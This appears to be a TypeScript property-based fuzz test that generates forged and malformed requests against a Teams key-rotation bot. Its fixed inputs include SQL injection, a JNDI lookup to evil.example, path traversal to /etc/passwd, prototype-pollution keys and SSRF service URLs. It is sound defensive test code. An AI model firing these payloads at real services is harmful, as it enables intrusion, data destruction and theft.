import fc from 'fast-check';
import { type FakePerson, groupChatId } from '../support/fakeTeams.ts';
import { ada, bo, chen, dana, eli } from '../support/keysmith.ts';
import { strangers, type World } from './world.ts';

/** One request, as it goes over the wire, and what it may lead to. */
export type Shot = Readonly<{
  what: string;
  headers: Readonly<Record<string, string>>;
  body: string;
  /** How often it is sent, at the same moment. */
  times: number;
  /** `never`: it must not be answered with 200, nor leave anything behind. */
  heard: 'maybe' | 'never';
  /** Ids of activities begin with it, so that what they left behind can be found. */
  mark: string;
}>;

type Json = Readonly<Record<string, unknown>>;

/** Keys that would change every object of the program, if they were merged into one. */
const polluting = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

const text = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '\u0000',
      '\ud800',
      '\u202e\u2066',
      "'; drop table keysmith.inbox; --",
      '${jndi:ldap://evil.example}',
      '${env.PATH}',
      '{{DATE(x)}}',
      '<at>0</at>',
      '[x](javascript:alert(1))',
      '../../etc/passwd',
      'a\u0301'.repeat(200),
    ),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 120_000 }).map((n) => 'x'.repeat(n)) },
);
const anything = fc.oneof(
  { weight: 5, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 2, arbitrary: text },
  { weight: 1, arbitrary: fc.constantFrom(null, true, -1, 1e308, [], {}, [[]], { a: { b: [] } }) },
  { weight: 1, arbitrary: fc.integer({ min: 50, max: 20_000 }).map(nested) },
  {
    weight: 1,
    // `__proto__` written like this is an own key, as JSON.parse makes it
    arbitrary: fc
      .constantFrom(...polluting)
      .map((key): unknown => JSON.parse(`{"${key}": {"polluted": true, "isAdmin": true}}`)),
  },
);

/** Stands for lists in objects in lists, deeper than this process itself could write them as JSON. */
function nested(depth: number): string {
  return `@nested:${depth}`;
}
const unfolded = (json: string): string =>
  json.replace(/"@nested:(\d+)"/g, (_all, depth) => {
    const times = Number(depth);
    return `${'[{"a":'.repeat(times)}1${'}]'.repeat(times)}`;
  });

const verbs = [
  'approve', 'reject', 'declare', 'confirm', 'withdraw', 'withdrawVote', 'askWaiver', 'approveWaiver',
  'rejectWaiver', 'choose', 'askAgain', 'closeOldKeyAlive', 'retry', 'rollBack', 'cancel', 'refresh',
  'openAskWaiver', 'openReject', 'openRotate', 'submitRotate', 'regenerate', '__proto__',
]; // prettier-ignore
const stages = [
  'plan',
  'approveFirst',
  'approveSecond',
  'regenerateIdleKey',
  'regenerateRetiredKey',
  'rollBack',
  'done',
];
const rightsOf = new Set<FakePerson>([ada, bo, chen]);

/** Once in so many times. */
const seldom = <T>(times: number, arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> =>
  fc.oneof({ weight: times - 1, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary });

/** Whoever is behind an activity: members, strangers whom nobody must hear, and people who are put together. */
const sender = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(ada, bo, chen, dana, eli).map((person) => ({ person, heard: true })) },
  { weight: 2, arbitrary: fc.constantFrom<FakePerson>(...strangers).map((person) => ({ person, heard: false })) },
  {
    weight: 2,
    // Bo's directory id under another's account, or under none that the roster knows
    arbitrary: fc.constantFrom<FakePerson>(
      { ...dana, objectId: bo.objectId, name: bo.name },
      { ...bo, id: '29:nobody' },
      { ...chen, id: eli.id },
    ).map((person) => ({ person, heard: false })),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(text, fc.uuid()).map(([id, objectId]) => ({
      person: { ...bo, id: `29:x${id.slice(0, 300)}`, objectId },
      heard: false,
    })),
  },
); // prettier-ignore

/** Activities of every kind that are well formed, aimed at the rotation that stands at its gate. */
export function shots({ teams, target, card, good, bad }: World, run: string): fc.Arbitrary<Shot> {
  const { id: rotation, phase } = target;
  const { digest, stage } = phase;
  const conversations = [teams.address(card), card.conversation, groupChatId];
  const mine = { keysmith: 1, rotation, stage };

  const data = fc.oneof(
    // the true vote, over and over
    { weight: 3, arbitrary: fc.constant<Json>({ ...mine, verb: 'approve', digest }) },
    {
      weight: 8,
      arbitrary: fc.record<Json>(
        {
          keysmith: fc.oneof(fc.constant(1), anything),
          verb: fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...verbs) }, anything),
          rotation: fc.oneof(
            { weight: 6, arbitrary: fc.constant(rotation) },
            fc.constant('R-ZZZZZZ'),
            anything,
          ),
          stage: fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...stages) }, anything),
          digest: fc.oneof(fc.constant(digest), fc.constant('0'.repeat(64)), anything),
          reason: text,
          consumer: text,
          holds: fc.constantFrom('Key1', 'neither', 'Key3'),
          to: fc.constantFrom('Key1', 'Key2', ''),
          waiver: fc.oneof(fc.integer(), anything),
          subject: fc.oneof(fc.constant('traffic'), text),
          choice: fc.constantFrom('stay', 'switchBack', 'sudo'),
          account: text,
          procedure: fc.constantFrom('apiKeys', 'encryptionKey', 'none'),
          by: anything,
        },
        { requiredKeys: ['keysmith', 'verb'] },
      ),
    },
    { weight: 4, arbitrary: fc.constantFrom(...verbs).map(complete) },
    { weight: 2, arbitrary: anything },
  );

  /** The data that a card of ours would send with this verb, where one could. */
  function complete(verb: string): Json {
    if (verb === 'openRotate') return { keysmith: 1, verb };
    if (verb === 'submitRotate') return { keysmith: 1, verb, procedure: 'apiKeys', reason: '', account: 'x' };
    const more: Readonly<Record<string, Json>> = {
      approve: { digest },
      reject: { digest, reason: 'no' },
      openReject: { digest },
      declare: { consumer: 'x', holds: 'Key2' },
      confirm: { consumer: 'x', to: 'Key2' },
      withdraw: { consumer: 'x', to: 'Key2' },
      askWaiver: { subject: 'traffic', reason: 'why not' },
      approveWaiver: { waiver: 1 },
      rejectWaiver: { waiver: 1 },
      choose: { choice: 'stay' },
    };
    return { ...mine, verb, ...(Object.hasOwn(more, verb) ? more[verb] : {}) };
  }

  /** Those who have a say must not end the rotation, nor give its second vote: then nothing could be told. */
  const isDecisive = (person: FakePerson, sent: string): boolean =>
    rightsOf.has(person) &&
    sent.toUpperCase().includes(rotation) &&
    (/"(reject|cancel|askAgain|retry|rollBack|withdrawVote)"|cancel/i.test(sent) ||
      (person === chen && sent.includes(digest)));

  const command = fc.oneof(
    fc.constantFrom(
      `cancel ${rotation}`,
      `status ${rotation}`,
      'status',
      'help',
      'cancel',
      'rotate',
      `approve ${rotation}`,
    ),
    text.map((rest) => `status ${rest}`),
    text.map((rest) => `cancel ${rest}`),
    text,
  );
  const content = fc.oneof(
    { weight: 5, arbitrary: data.map((value): Json => ({ type: 'invoke', name: 'adaptiveCard/action', replyToId: card.id, value: { action: { type: 'Action.Execute', verb: 'x', data: value }, trigger: 'manual' } })) },
    { weight: 2, arbitrary: fc.tuple(fc.oneof(text, fc.constantFrom('task/fetch', 'signin/verifyState', 'composeExtension/query', 'adaptiveCard/action')), anything).map(([name, value]): Json => ({ type: 'invoke', name, value })) },
    { weight: 3, arbitrary: command.map((said): Json => ({ type: 'message', text: `<at>Keysmith</at> ${said}` })) },
    { weight: 2, arbitrary: data.map((value): Json => ({ type: 'message', value, replyToId: card.id })) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom('messageUpdate', 'messageDelete', 'messageReaction', 'conversationUpdate', 'installationUpdate', 'event', 'typing', 'endOfConversation', 'trace', '__proto__'), command, anything).map(([type, said, value]): Json => ({ type, text: said, value, channelData: { eventType: 'editMessage' } })) },
  ); // prettier-ignore

  /** Fields that are replaced, taken away or added, after which anything may come of it. */
  const damage = fc.oneof(
    { weight: 7, arbitrary: fc.constant<Json>({}) },
    {
      weight: 1,
      arbitrary: fc.dictionary(
        fc.constantFrom('type', 'id', 'from', 'recipient', 'conversation', 'channelData', 'channelId', 'text', 'value', 'name', 'entities', 'attachments', 'membersAdded', 'timestamp', 'locale', 'replyToId', ...polluting, 'x'),
        fc.option(anything, { nil: undefined }),
        { maxKeys: 3 },
      ),
    },
  ); // prettier-ignore
  const headers = fc.oneof(
    { weight: 30, arbitrary: fc.constant({ 'content-type': 'application/json' }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Record<string, string>>(
        {},
        { 'content-type': 'text/plain' },
        { 'content-type': 'application/x-www-form-urlencoded' },
        { 'content-type': 'multipart/form-data; boundary=x' },
        { 'content-type': 'application/json; charset=utf-16' },
        { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        { 'content-type': 'application/json', 'x-http-method-override': 'DELETE' },
        { 'content-type': 'application/json', accept: '\u00ff', 'accept-version': '~9' },
      ),
    },
  );
  const badToken = fc.constantFrom(...Object.entries(bad));

  const activity = fc
    .record({
      from: sender,
      content,
      damage,
      headers,
      conversation: fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...conversations) }, text),
      token: seldom(3, badToken),
      elsewhere: seldom(
        20,
        fc.constantFrom('https://evil.example', 'http://127.0.0.1:1', 'file:///etc/passwd'),
      ),
      times: fc.oneof({ weight: 9, arbitrary: fc.constant(1) }, fc.integer({ min: 2, max: 4 })),
      nonce: fc.nat(),
    })
    .map(({ from, content, damage, headers, conversation, token, elsewhere, times, nonce }): Shot => {
      const person = isDecisive(from.person, JSON.stringify([content, damage])) ? dana : from.person;
      const proven = token === undefined && elsewhere === undefined;
      // what was damaged may hold another sender, but no activity of a stranger is damaged
      const stranger = !from.heard && Object.keys(damage).length === 0;
      const edited = /Update|Delete|Reaction/.test(String(content['type'])) && !('type' in damage);
      const mark = `fz${run}-${proven ? (stranger ? 's' : edited ? 'e' : 'g') : 'b'}-`;
      const base = teams.frame(person, card.conversation);
      const id = `${mark}${nonce}`;
      const whole: Json = {
        ...base,
        id,
        ...content,
        conversation: { ...base.conversation, id: conversation },
        ...(elsewhere === undefined ? {} : { serviceUrl: elsewhere }),
      };
      const authorization = token === undefined ? `Bearer ${good}` : token[1];
      return {
        what: `${String(content['type'])} of ${person.name}${token === undefined ? '' : `, token ${token[0]}`}${elsewhere === undefined ? '' : `, ${elsewhere}`}, damaged: ${Object.keys(damage).join(' ')}`,
        headers: { ...headers, ...(authorization === undefined ? {} : { authorization }) },
        body: unfolded(JSON.stringify(merged(whole, proven ? damage : withoutId(damage)))),
        times,
        heard: proven ? 'maybe' : 'never',
        mark,
      };
    });

  const raw = fc
    .tuple(
      fc.oneof(
        anything.map((value) => unfolded(JSON.stringify(value))),
        text,
        fc.constantFrom('', '{', '[', '"', 'null', '{"type":"message"', '\ufeff{}', '{"a":1}{"a":1}', 'NaN'),
        fc.integer({ min: 1000, max: 100_000 }).map((depth) => '['.repeat(depth)),
        fc.integer({ min: 1000, max: 50_000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
        fc.integer({ min: 300_000, max: 700_000 }).map((size) => `{"text":"${'x'.repeat(size)}"}`),
      ),
      headers,
    )
    .map(([body, head]): Shot => ({
      what: 'something that is no activity',
      headers: { ...head, authorization: `Bearer ${good}` },
      body,
      times: 1,
      heard: 'never',
      mark: 'none',
    }));
  return fc.oneof({ weight: 15, arbitrary: activity }, { weight: 1, arbitrary: raw });
}

/** A damaged id would lose its mark. */
function withoutId({ id: _id, ...rest }: Json): Json {
  return rest;
}

/** With `__proto__` as a key like any other, as it stands in JSON. */
function merged(one: Json, other: Json): unknown {
  const all = Object.entries({ ...one }).concat(Object.entries(other));
  return Object.fromEntries(all.filter(([, value]) => value !== undefined));
}
